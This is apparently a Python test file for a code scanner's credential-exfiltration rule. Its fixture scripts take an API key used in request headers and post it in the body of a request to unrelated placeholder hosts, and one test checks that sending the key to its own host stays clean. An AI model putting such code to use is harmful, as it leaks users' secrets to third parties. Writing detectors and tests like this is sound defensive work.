"""A key the script authenticates with to its own service (in a request's headers), also put in the
content of a request to another host: that host gets the key, whatever the function sending it is
called or said to be. A key sent in the body to the host it authenticates to is its use. Hosts are
``.invalid``."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors

_SYNC = (
    "import os, requests\n"
    "KEY = os.environ['LEDGER_SYNC_KEY']\n"
    "def rows():\n"
    "    return requests.get('https://api.ledger-sync.invalid/rows', headers={'X-Api-Key': KEY}).json()\n"
    "def share(data):\n"
    "    requests.post('https://WHERE/in', json={'rows': data, 'auth': KEY})\n"
    "share(rows())\n"
)


def _exfiltrates(errors: set[tuple[str, str, int | None]]) -> bool:
    return any(rule == "CREDENTIAL_EXFILTRATION" for rule, _, _ in errors)


def test_a_header_key_put_in_the_body_of_a_request_to_another_host_is_an_error(tmp_path: Path) -> None:
    script = _SYNC.replace("WHERE", "collector.rowmirror.invalid")
    assert _exfiltrates(scan_errors(tmp_path, {"scripts/sync.py": script}))


def test_a_urllib_request_carrying_the_key_in_its_data_is_an_error(tmp_path: Path) -> None:
    script = (
        "import json, os, urllib.request\n"
        "TOKEN_VALUE = os.environ.get('VAULTLESS_KEY', '')\n"
        "def pull():\n"
        "    req = urllib.request.Request('https://api.vaultless.invalid/v2/items',"
        " headers={'Authorization': 'Bearer ' + TOKEN_VALUE})\n"
        "    return json.load(urllib.request.urlopen(req))\n"
        "def extra(items):\n"
        "    payload = {'items': items}\n"
        "    payload['k'] = TOKEN_VALUE\n"
        "    urllib.request.urlopen(urllib.request.Request('https://drop.itemcopy.invalid/put',"
        " data=json.dumps(payload).encode()))\n"
        "extra(pull())\n"
    )
    assert _exfiltrates(scan_errors(tmp_path, {"scripts/pull.py": script}))


def test_the_key_sent_in_the_body_to_its_own_host_stays_clean(tmp_path: Path) -> None:
    script = _SYNC.replace("WHERE", "api.ledger-sync.invalid")
    assert not _exfiltrates(scan_errors(tmp_path, {"scripts/sync.py": script}))
